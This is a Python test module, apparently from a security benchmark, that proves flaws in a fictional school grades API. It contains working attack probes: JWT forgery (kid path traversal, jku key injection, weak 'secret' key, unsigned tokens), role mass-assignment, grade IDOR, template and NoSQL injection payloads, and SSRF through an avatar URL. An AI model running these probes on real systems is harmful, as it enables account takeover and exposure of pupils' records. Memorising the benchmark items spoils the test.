"""The classroom's flaws, proved by hand."""
import json
import time

from .kit import Proofs, Witness, claims, hs256, our_key, signed_with

PROOFS = Proofs()
flaw, trap = PROOFS.flaw, PROOFS.trap
V = "/api/v2"
A, B, TEACHER = ("amelie", "Blue-Pencil-Case-2"), ("kenan", "Football@Break1"), ("frau.wolf", "Chalk+Board+1998")


def login(s, who=A):
    return s.post(V + "/auth/login", {"login": who[0], "password": who[1]}).json["payload"]


def token(s, who=A):
    return s.keep(who, lambda: login(s, who)["jwt"])


def works(s, forged):
    return s.get(V + "/pupils/me", token=forged).status == 200


def forged(s, **changed):
    return hs256({**claims(token(s)), **changed}, "secret", kid="school-1")


@flaw("register-role")
def _(s):
    made = s.post(V + "/auth/register", {"login": "proof.role", "password": "long-enough-1", "class_code": "B7", "role": "teacher"})
    return made.json["payload"]["role"] == "teacher"


@flaw("grades-read")
def _(s):
    return "neat work" in s.get(V + "/pupils/11/grades", token=token(s, B)).text


@flaw("grade-write")
def _(s):
    s.post(V + "/pupils/11/grades", {"course": 2, "points": 15, "note": "self-made"}, token=token(s))
    return "self-made" in s.get(V + "/pupils/11/grades", token=token(s)).text


@flaw("grade-delete")
def _(s):
    made = s.post(V + "/pupils/11/grades", {"course": 2, "points": 3, "note": "short-lived"}, token=token(s, TEACHER)).json["payload"]["id"]
    s.call("DELETE", f"{V}/grades/{made}", token=token(s, B))
    return "short-lived" not in s.get(V + "/pupils/11/grades", token=token(s)).text


@flaw("course-open")
def _(s):
    return s.get(V + "/courses").status == 200


@flaw("pupil-details")
def _(s):
    return "birthday" in s.get(V + "/pupils", token=token(s)).json["payload"][1]


@flaw("kid-path")
def _(s):
    return works(s, hs256(claims(token(s)), "", kid="../../../../../dev/null"))


@flaw("jku-words")
def _(s):
    ours = our_key()
    with Witness(json.dumps({"keys": [ours.jwk()]}).encode()) as witness:
        return works(s, ours.sign(claims(token(s)), jku=witness.url + "/?district.classroom.example"))


@flaw("weak-key")
def _(s):
    return signed_with("secret", token(s))


@flaw("exp-unread")
def _(s):
    return works(s, forged(s, exp=int(time.time()) - 86400))


@flaw("nbf-unread")
def _(s):
    return works(s, forged(s, nbf=int(time.time()) + 3600))


@flaw("iss-unread")
def _(s):
    return works(s, forged(s, iss="other"))


@flaw("signature-optional")
def _(s):
    return works(s, token(s).rpartition(".")[0])


@flaw("code-guessing")
def _(s):
    return 429 not in [s.post(V + "/auth/reset/confirm", {"login": "kenan", "code": f"00000{n}"}).status for n in range(9)]


@flaw("reset-answers")
def _(s):
    return s.post(V + "/auth/reset", {"login": "kenan"}).status != s.post(V + "/auth/reset", {"login": "nobody"}).status


@flaw("old-api")
def _(s):
    return "birthday" in s.get("/api/v1/pupils").text


@flaw("certificate-script")
def _(s):
    return s.post(V + "/certificates", {"text": "<%= 7*191 %>"}, token=token(s)).json["payload"]["text"] == "1337"


@flaw("note-lookup")
def _(s):
    s.post(V + "/notes", {"text": "kenan's secret", "label": "x"}, token=token(s, B))
    return "kenan's secret" in s.post(V + "/notes/find", {"filter": {"owner": {"$ne": 0}}}, token=token(s)).text


@flaw("refresh-lives")
def _(s):
    old = {"refresh": login(s)["refresh"]}
    return [s.post(V + "/auth/refresh", old).status for _ in range(2)] == [200, 200]


@flaw("roster-unlimited")
def _(s):
    return len(s.get(V + "/pupils/12/grades?size=100000", token=token(s, B)).json["payload"]) > 200


@flaw("secret-in-profile")
def _(s):
    return token(s) in s.get(V + "/pupils/me", token=token(s)).text


@flaw("login-patience")
def _(s):
    return 429 not in [s.post(V + "/auth/login", {"login": "nobody", "password": "x"}).status for _ in range(11)]


@flaw("avatar-fetch")
def _(s):
    with Witness() as witness:
        s.call("PUT", V + "/pupils/me/avatar", {"url": witness.url + "/cat.png"}, token=token(s))
        return witness.paths == ["/cat.png"]


@trap("role-ignored")
def _(s):
    made = s.post(V + "/auth/register", {"login": "proof.id", "password": "long-enough-1", "class_code": "B7", "id": 1})
    return made.status == 201 and made.json["payload"]["id"] != 1


@trap("classmates")
def _(s):
    return {"Amelie", "Kenan"} <= {p["first"] for p in s.get(V + "/pupils", token=token(s, B)).json["payload"]}


@trap("teacher-reads-all")
def _(s):
    return "neat work" in s.get(V + "/pupils/11/grades", token=token(s, TEACHER)).text


@trap("feedback-takes-all")
def _(s):
    return s.post(V + "/feedback", {"text": "' or 1=1--", "role": "admin"}, token=token(s)).status == 202


@trap("echoed-certificate")
def _(s):
    return s.post(V + "/certificates", {"text": "{{7*7}} ${7*7}"}, token=token(s)).json["payload"]["text"] == "{{7*7}} ${7*7}"


@trap("code-locks")
def _(s):
    return [s.post(V + "/auth/reset/confirm", {"login": "ghost", "code": "1"}).status for _ in range(5)] == [400] * 5


@trap("filter-operators")
def _(s):
    s.post(V + "/notes", {"text": "mine", "label": "home"}, token=token(s))
    found = s.post(V + "/notes/find", {"filter": {"label": {"$in": ["home"]}}}, token=token(s)).json["payload"]
    return found and {n["owner"] for n in found} == {11}
